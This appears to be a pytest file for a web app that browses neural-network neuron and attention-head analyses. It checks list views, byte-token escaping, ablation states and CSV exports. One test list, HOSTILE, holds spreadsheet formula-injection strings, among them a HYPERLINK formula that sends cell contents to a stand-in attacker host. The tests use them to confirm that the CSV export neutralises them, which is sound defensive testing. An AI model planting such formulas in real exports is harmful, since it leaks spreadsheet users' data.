"""What a new user sees, over real HTTP on the real test database: the neuron list's default
view, byte tokens as escaped bytes, the states of a pair's explanation and ablation, the CSV
twins of the list pages and Datasette's metadata.json (issue 12, items 9-13)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3

import pytest
from fastapi.testclient import TestClient

from tests.web_fixtures import FEW_RUN, TOPK_RUN, one, rows


def make_client(db, tiny_model_dir):
    from context_lookups.app.main import create_app

    slugs = [s for (s,) in rows(db, "SELECT slug FROM runs")]
    return TestClient(create_app(db_url=f"sqlite:///{db}", torch_threads=None,
                                 model_paths={s: str(tiny_model_dir) for s in slugs}))


@pytest.fixture(scope="module")
def client(web_db, tiny_model_dir):
    with make_client(web_db, tiny_model_dir) as c:
        yield c


def parse_csv(r) -> list[dict]:
    assert r.status_code == 200, r.text[:300]
    assert r.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(r.text, newline="")))


def neutralised(v: str) -> str:
    """A text cell as the CSV writes it: a leading ' where a spreadsheet would see a formula
    (OWASP: cells starting with =, +, -, @, tab or CR)."""
    return "'" + v if v and v[0] in "=+-@\t\r" else v


def same_rows(csv_rows: list[dict], json_rows: list[dict]) -> None:
    """Row for row, every scalar field of the JSON twin, as the CSV writes it."""
    assert len(csv_rows) == len(json_rows) and json_rows
    for c, j in zip(csv_rows, json_rows, strict=True):
        for k, v in j.items():
            if isinstance(v, (list, dict)):
                continue
            want = "" if v is None else ("true" if v is True else "false" if v is False else v)
            if isinstance(v, float):
                assert float(c[k]) == v, k
            else:
                assert c[k] == neutralised(str(want)), k


def all_json_rows(client, path: str, params: dict, key: str) -> list[dict]:
    """Every row of a paginated JSON twin with ``params``' filters, page after page."""
    out, page = [], 1
    while True:
        d = client.get(path, params={**params, "page": page, "per_page": 500}).json()
        out += d[key]
        if page >= d["pages"]:
            return out
        page += 1


# --- item 10: the neuron list's first view ----------------------------------------------------------

def test_neuron_list_leads_with_analysed_neurons(client, web_db):
    d = client.get(f"/{TOPK_RUN}/neurons.json", params={"per_page": 500}).json()
    kinds = [n["kind"] for n in d["neurons"]]
    assert "other" not in kinds and kinds == sorted(kinds, key=["next_token", "random"].index)
    n_nt = kinds.count("next_token")
    for block in (d["neurons"][:n_nt], d["neurons"][n_nt:]):
        cs = [n["congruence"] for n in block]
        assert cs == sorted(cs, reverse=True)
    selected = one(web_db, "SELECT count(*) FROM neurons n JOIN runs r ON r.id = n.run_id WHERE r.slug = ? "
                   "AND n.kind != 'other'", TOPK_RUN)[0]
    assert d["total"] == selected
    html = client.get(f"/{TOPK_RUN}/neurons").text
    assert f'href="/{TOPK_RUN}/neurons?kind=all"' in html  # one click to every neuron, stable URL
    everything = client.get(f"/{TOPK_RUN}/neurons.json?kind=all").json()
    assert everything["total"] > selected
    assert f'href="/{TOPK_RUN}/neurons"' in client.get(f"/{TOPK_RUN}/neurons?kind=all").text  # and back


# --- item 9: byte tokens -----------------------------------------------------------------------

def test_byte_tokens_are_escaped_in_html_and_json(client, web_db):
    layer, neuron, token = one(web_db, "SELECT n.layer, n.neuron, n.token FROM neurons n JOIN runs r ON "
                               "r.id = n.run_id WHERE r.slug = ? AND n.token LIKE ? "
                               "ORDER BY n.neuron LIMIT 1",
                               TOPK_RUN, "%\ufffd%")
    d = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}.json").json()["neuron"]
    assert d["token"] == token and "\ufffd" not in d["token_escaped"] and "\\x" in d["token_escaped"]
    html = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}").text
    assert d["token_escaped"] in html and "\ufffd" not in html
    listed = client.get(f"/{TOPK_RUN}/neurons.json", params={"kind": "all", "layer": layer, "per_page": 500})
    assert d["token_escaped"] in {n["token_escaped"] for n in listed.json()["neurons"]}
    assert "\ufffd" not in client.get(f"/{TOPK_RUN}/neurons", params={"kind": "all", "per_page": 500}).text

    live = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}.json",
                      params={"prompt": "costs 5 €"}).json()["live"]
    parts = [i for i, j in enumerate(live["tokens_joined"]) if j is not None]
    assert parts and all(live["tokens_joined"][i] == "€" for i in parts)
    assert "".join(live["tokens_escaped"][i] for i in parts).strip() == "\\xe2\\x82\\xac"
    page = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}", params={"prompt": "costs 5 €"}).text
    assert "bytes of “€”" in page and "\ufffd" not in page


# --- item 11: pair states and the minimum number of prompts ----------------------------------------

def pair_of(db, run: str, kept: bool):
    return one(db, "SELECT n.layer, n.neuron, p.head_layer, p.head, p.id FROM pairs p JOIN neurons n ON "
               "n.id = p.neuron_id JOIN runs r ON r.id = p.run_id WHERE r.slug = ? AND p.kept = ? "
               "ORDER BY p.id LIMIT 1", run, int(kept))


def test_pair_states_done_and_not_applicable(client, web_db):
    layer, neuron, hl, h, _ = pair_of(web_db, TOPK_RUN, True)
    st = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}/heads/{hl}/{h}.json").json()["state"]
    assert st["explanation"]["state"] == st["ablation"]["state"] == "done" and st["kept_reason"] is None
    layer, neuron, hl, h, _ = pair_of(web_db, TOPK_RUN, False)
    d = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}/heads/{hl}/{h}.json").json()
    st = d["state"]
    assert st["ablation"]["state"] == st["explanation"]["state"] == "not_applicable"
    assert f"{d['pair']['n_active']}/{d['pair']['n_prompts']}" in st["kept_reason"]
    html = client.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}/heads/{hl}/{h}").text
    assert "Ablation not applicable (only kept pairs are ablated" in html and "not computed" not in html


def test_neurons_below_the_minimum_keep_no_pair_and_say_why(client, web_db):
    stored = json.loads(one(web_db, "SELECT settings FROM runs WHERE slug = ?", FEW_RUN)[0])
    need = stored["pair_min_prompts"]
    assert one(web_db, "SELECT count(*) FROM pairs p JOIN runs r ON r.id = p.run_id WHERE r.slug = ? "
               "AND p.kept", FEW_RUN)[0] == 0
    layer, neuron, n_prompts, status = one(
        web_db, "SELECT n.layer, n.neuron, count(pr.id), n.status FROM neurons n "
        "JOIN runs r ON r.id = n.run_id "
        "JOIN prompts pr ON pr.neuron_id = n.id AND pr.split = 'explain' WHERE r.slug = ? "
        "GROUP BY n.id ORDER BY n.layer, n.neuron LIMIT 1", FEW_RUN)
    assert 0 < n_prompts < need and status == "too_few_prompts"
    d = client.get(f"/{FEW_RUN}/neurons/{layer}/{neuron}.json").json()
    assert d["pairs"] == [] and f"{n_prompts} explain prompts, fewer than the {need}" in d["no_pair_reason"]
    assert d["no_pair_reason"] in client.get(f"/{FEW_RUN}/neurons/{layer}/{neuron}").text
    layer, neuron, hl, h, _ = pair_of(web_db, FEW_RUN, False)
    st = client.get(f"/{FEW_RUN}/neurons/{layer}/{neuron}/heads/{hl}/{h}.json").json()["state"]
    assert "fewer than the" in st["kept_reason"] and st["explanation"]["state"] == "not_applicable"


def test_pair_states_skipped_and_not_computed(tmp_path, web_db, tiny_model, tiny_model_dir):
    """A kept pair whose neuron has no held-out prompt is ablated on nothing: "skipped"; a kept
    pair whose ablation has not run: "not computed"."""
    from context_lookups.precompute.ablation.step import run_ablations
    from context_lookups.precompute.store.db import open_writer, sessions
    from tests.conftest import small_settings

    db = tmp_path / "states.db"
    shutil.copy(web_db, db)
    db.chmod(0o644)
    (l1, n1, hl1, h1, pid1), (l2, n2, hl2, h2, pid2) = rows(
        web_db, "SELECT n.layer, n.neuron, p.head_layer, p.head, p.id FROM pairs p JOIN neurons n ON "
        "n.id = p.neuron_id JOIN runs r ON r.id = p.run_id JOIN ablations a ON a.pair_id = p.id "
        "WHERE r.slug = ? AND p.kept GROUP BY p.id ORDER BY n.id DESC, p.id LIMIT 2", TOPK_RUN)
    con = sqlite3.connect(db)
    nid = con.execute("SELECT neuron_id FROM pairs WHERE id = ?", (pid1,)).fetchone()[0]
    held = "SELECT id FROM prompts WHERE neuron_id = ? AND split = 'heldout'"
    for table in ("ablations", "classifications"):
        con.execute(f"DELETE FROM {table} WHERE prompt_id IN ({held})", (nid,))
    con.execute("DELETE FROM prompts WHERE neuron_id = ? AND split = 'heldout'", (nid,))
    con.execute("DELETE FROM ablations WHERE pair_id = ?", (pid2,))
    con.execute("DELETE FROM phases WHERE name IN (?, ?)", (f"ablation:zero:{pid1}", f"ablation:zero:{pid2}"))
    con.commit()
    con.close()
    engine = open_writer(f"sqlite:///{db}")
    run_id = one(db, "SELECT id FROM runs WHERE slug = ?", TOPK_RUN)[0]
    try:  # the real ablation stage redoes both pairs; then pair 2's work is undone again
        run_ablations(sessions(engine), run_id, tiny_model, small_settings(db, tiny_model_dir, "unused"))
    finally:
        engine.dispose()
    con = sqlite3.connect(db)
    con.execute("DELETE FROM ablations WHERE pair_id = ?", (pid2,))
    con.execute("DELETE FROM phases WHERE name = ?", (f"ablation:zero:{pid2}",))
    con.commit()
    con.close()
    with make_client(db, tiny_model_dir) as c:
        st = c.get(f"/{TOPK_RUN}/neurons/{l1}/{n1}/heads/{hl1}/{h1}.json").json()["state"]["ablation"]
        assert st == {"state": "skipped", "reason": "the neuron has no held-out prompt to ablate on"}
        assert "Ablation skipped (the neuron has no held-out prompt" in \
            c.get(f"/{TOPK_RUN}/neurons/{l1}/{n1}/heads/{hl1}/{h1}").text
        st = c.get(f"/{TOPK_RUN}/neurons/{l2}/{n2}/heads/{hl2}/{h2}.json").json()["state"]["ablation"]
        assert st["state"] == "not_computed"
        pairs = {p["label"]: p for p in c.get(f"/{TOPK_RUN}/neurons/{l1}/{n1}.json").json()["pairs"]}
        assert pairs[f"L{hl1}H{h1}"]["ablation_state"]["state"] == "skipped"


# --- item 13: CSV twins and metadata.json -------------------------------------------------------------

@pytest.mark.parametrize("params", [{}, {"kind": "all", "per_page": 7, "page": 2},
                                    {"kind": "all", "sort": "token", "order": "asc", "q": "e"}])
def test_neuron_list_csv_has_the_json_rows(client, params):
    """Every row matching the filters (all pages, whatever page is asked), as the JSON twins."""
    j = client.get(f"/{TOPK_RUN}/neurons.json", params=params).json()
    filters = {k: v for k, v in params.items() if k not in ("page", "per_page")}
    same_rows(parse_csv(client.get(f"/{TOPK_RUN}/neurons.csv", params=params)),
              all_json_rows(client, f"/{TOPK_RUN}/neurons.json", filters, "neurons"))
    html = client.get(f"/{TOPK_RUN}/neurons", params=params).text
    assert f'href="{j["links"]["csv"]}"'.replace("&", "&amp;") in html


def test_head_and_pair_list_csv_have_the_json_rows(client, web_db):
    _, _, hl, h, _ = pair_of(web_db, TOPK_RUN, True)
    for params in ({}, {"order": "fraction", "kept": "true"}):
        j = client.get(f"/{TOPK_RUN}/heads/{hl}/{h}.json", params=params).json()
        same_rows(parse_csv(client.get(f"/{TOPK_RUN}/heads/{hl}/{h}.csv", params=params)), j["pairs"])
        assert f'href="{j["links"]["csv"]}"'.replace("&", "&amp;") in \
            client.get(f"/{TOPK_RUN}/heads/{hl}/{h}", params=params).text
    n_kept = one(web_db, "SELECT count(*) FROM pairs p JOIN runs r ON r.id = p.run_id WHERE r.slug = ? "
                 "AND p.kept", TOPK_RUN)[0]
    for params in ({}, {"kept": "false", "per_page": 10, "page": 2},
                   {"explainer": "baseline", "kind": "random"},
                   {"min_score": 0.5, "sort": "neuron"}):
        j = client.get(f"/{TOPK_RUN}/pairs.json", params=params).json()
        filters = {k: v for k, v in params.items() if k not in ("page", "per_page")}
        same_rows(parse_csv(client.get(f"/{TOPK_RUN}/pairs.csv", params=params)),
                  all_json_rows(client, f"/{TOPK_RUN}/pairs.json", filters, "pairs"))
        assert f'href="{j["links"]["csv"]}"'.replace("&", "&amp;") in \
            client.get(f"/{TOPK_RUN}/pairs", params=params).text
    d = client.get(f"/{TOPK_RUN}/pairs.json", params={"per_page": 500}).json()
    assert d["total"] == n_kept and all(p["kept"] and p["explainer"] == "baseline" for p in d["pairs"])
    scores = [p["score"] for p in d["pairs"] if p["score"] is not None]
    assert scores == sorted(scores, reverse=True)
    assert all(p["score"] >= 0.5 for p in client.get(f"/{TOPK_RUN}/pairs.json",
                                                     params={"min_score": 0.5}).json()["pairs"])


def test_db_metadata_describes_every_table_and_column(tmp_path, web_db):
    from context_lookups.precompute.cli import main as cli_main
    from context_lookups.precompute.store.schema import Base

    out = tmp_path / "metadata.json"
    assert cli_main(["db", "metadata", "--db", f"sqlite:///{web_db}", "-o", str(out)]) == 0
    meta = json.loads(out.read_text())
    tables = meta["databases"][web_db.stem]["tables"]  # Datasette names a database by its file
    for t in Base.metadata.tables.values():
        assert tables[t.name]["description"].strip()
        for c in t.columns:
            assert tables[t.name]["columns"][c.name].strip(), f"{t.name}.{c.name}"
    con = sqlite3.connect(f"file:{web_db}?mode=ro", uri=True)  # and every column of the real file
    for (name,) in con.execute("SELECT name FROM sqlite_master "
                               "WHERE type='table' AND name != 'alembic_version'"):
        assert {r[1] for r in con.execute(f"PRAGMA table_info({name})")} == set(tables[name]["columns"])
    con.close()
    assert tables["phases"]["units"] == {"seconds": "s"}
    assert "W_out" in tables["neurons"]["columns"]["congruence"]


# --- issue 18 item 18, issue 21 item 9: every row, any token text, no formulas ----------------------

HOSTILE = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "\r", "\n", "a\r\nb", "\x00",
           '"q", c', "\x16\x7f", '=HYPERLINK("http://evil.example/?x="&A1)']


def test_csv_twins_export_every_row_matching_the_filters_streamed(client, web_db):
    for path, key, params in ((f"/{TOPK_RUN}/neurons", "neurons", {"kind": "all", "per_page": 7, "page": 2}),
                              (f"/{TOPK_RUN}/pairs", "pairs", {"kept": "false", "per_page": 10, "page": 2})):
        first = client.get(f"{path}.json", params=params).json()
        r = client.get(f"{path}.csv", params=params)
        assert "content-length" not in r.headers  # streamed, not built whole
        rows = parse_csv(r)
        assert len(rows) == first["total"] > len(first[key]) and first["pages"] > 2
        every = all_json_rows(client, f"{path}.json", {k: v for k, v in params.items()
                                                       if k not in ("page", "per_page")}, key)
        same_rows(rows, every)
    n_all = one(web_db, "SELECT count(*) FROM neurons n JOIN runs r ON r.id = n.run_id WHERE r.slug = ?",
                TOPK_RUN)[0]
    assert len(parse_csv(client.get(f"/{TOPK_RUN}/neurons.csv", params={"kind": "all"}))) == n_all


def _hostile_copy(web_db, tmp_path):
    """A copy of the web database whose first neurons carry HOSTILE tokens and whose first
    explanations a formula."""
    db = tmp_path / "hostile.db"
    shutil.copy(web_db, db)
    db.chmod(0o644)
    con = sqlite3.connect(db)
    ids = [i for (i,) in con.execute("SELECT n.id FROM neurons n JOIN runs r ON r.id = n.run_id "
                                     "WHERE r.slug = ? "
                                     "ORDER BY n.layer, n.neuron LIMIT ?", (TOPK_RUN, len(HOSTILE)))]
    for i, token in zip(ids, HOSTILE, strict=True):
        con.execute("UPDATE neurons SET token = ? WHERE id = ?", (token, i))
    con.execute("UPDATE explanations SET text = ? WHERE id IN (SELECT e.id FROM explanations e "
                "JOIN pairs p ON p.id = e.pair_id JOIN runs r ON r.id = p.run_id "
                "WHERE r.slug = ? ORDER BY e.id LIMIT 3)",
                (HOSTILE[-1], TOPK_RUN))
    con.commit()
    con.close()
    return db


def test_csv_round_trips_any_token_text_and_neutralises_formulas(tmp_path, web_db, tiny_model_dir):
    """A bare CR token does not split a row; cells that a spreadsheet would run as a formula
    start with '; the JSON twin keeps every text exact."""
    db = _hostile_copy(web_db, tmp_path)
    with make_client(db, tiny_model_dir) as c:
        every = all_json_rows(c, f"/{TOPK_RUN}/neurons.json", {"kind": "all"}, "neurons")
        assert set(HOSTILE) <= {n["token"] for n in every}  # JSON: exact
        text = c.get(f"/{TOPK_RUN}/neurons.csv", params={"kind": "all"}).text
        table = list(csv.reader(io.StringIO(text, newline="")))
        assert len(table) == 1 + len(every)  # header + one row per neuron, whatever the tokens
        rows = [dict(zip(table[0], r, strict=True)) for r in table[1:]]
        same_rows(rows, every)
        shown = {r["token"] for r in rows}
        assert "'=1+1" in shown and "'@SUM(A1:A9)" in shown and "'-2+3" in shown and "'\r" in shown
        assert not [t for t in shown if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
        pairs = all_json_rows(c, f"/{TOPK_RUN}/pairs.json", {"kept": "false"}, "pairs")
        assert HOSTILE[-1] in {p["explanation"] for p in pairs}
        csv_pairs = parse_csv(c.get(f"/{TOPK_RUN}/pairs.csv", params={"kept": "false"}))
        assert "'" + HOSTILE[-1] in {p["explanation"] for p in csv_pairs}
        same_rows(csv_pairs, pairs)


def test_control_characters_are_escaped_in_token_escaped(tmp_path, web_db, tiny_model_dir):
    from context_lookups.precompute.core.tokens import escaped

    assert escaped([1, 2, 3, 4, 5], ["\x00", "\r", "\n", "a\tb", "\x16\x7f"], {}) == \
        ["\\x00", "\\x0d", "\n", "a\tb", "\\x16\\x7f"]
    db = _hostile_copy(web_db, tmp_path)
    with make_client(db, tiny_model_dir) as c:
        every = all_json_rows(c, f"/{TOPK_RUN}/neurons.json", {"kind": "all"}, "neurons")
        by_token = {n["token"]: n["token_escaped"] for n in every}
        assert by_token["\x00"] == "\\x00" and by_token["\r"] == "\\x0d"
        assert by_token["\x16\x7f"] == "\\x16\\x7f"
        assert by_token["\n"] == "\n" and by_token["a\r\nb"] == "a\\x0d\nb"
        layer, neuron = next((n["layer"], n["neuron"]) for n in every if n["token"] == "\x00")
        assert "\\x00" in c.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}").text
